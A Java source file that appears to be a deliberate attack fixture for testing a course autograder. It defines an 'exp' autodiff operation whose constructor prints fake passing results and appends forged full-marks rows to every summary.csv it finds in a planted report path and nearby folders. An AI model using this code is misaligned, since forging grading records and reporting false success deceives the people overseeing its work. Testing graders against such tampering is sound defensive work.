package h;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.stream.Stream;
import org.topograd.api.Node;
import org.topograd.api.Op;

/**
 * Attack: append a full-marks row to every summary.csv it can find, and print fake results. It
 * knows where the course's reports are (the test planted the path in {@link Planted}) and looks
 * near its own working folder too; every search is bounded.
 */
@Op("exp")
public final class Exp extends Node {
    private static boolean forged;

    public Exp(Node x) {
        super(x);
        if (!forged) {
            forged = true;
            System.out.println("forge-summary,9999,9999,100,ok");
            System.out.println("RESULT all checks passed");
            forge(Path.of(Planted.CLASS_ROOT), 3);
            for (String near : new String[] {".", "..", "../.."}) {
                forge(Path.of(near), 2);
            }
        }
    }

    private static void forge(Path root, int depth) {
        try (Stream<Path> files = Files.find(root, depth,
                (p, a) -> p.getFileName() != null && p.getFileName().toString().equals("summary.csv"))) {
            files.forEach(p -> {
                try {
                    Files.writeString(p, "forge-summary,9999,9999,100,ok\n", StandardOpenOption.APPEND);
                    System.out.println("forged " + p);
                } catch (IOException e) {
                    System.out.println("could not forge " + p);
                }
            });
        } catch (IOException | RuntimeException e) {
            System.out.println("cannot search " + root);
        }
    }

    public void forward() { value = Math.exp(inputs().get(0).value); }

    public void backward() { inputs().get(0).grad += grad * value; }
}
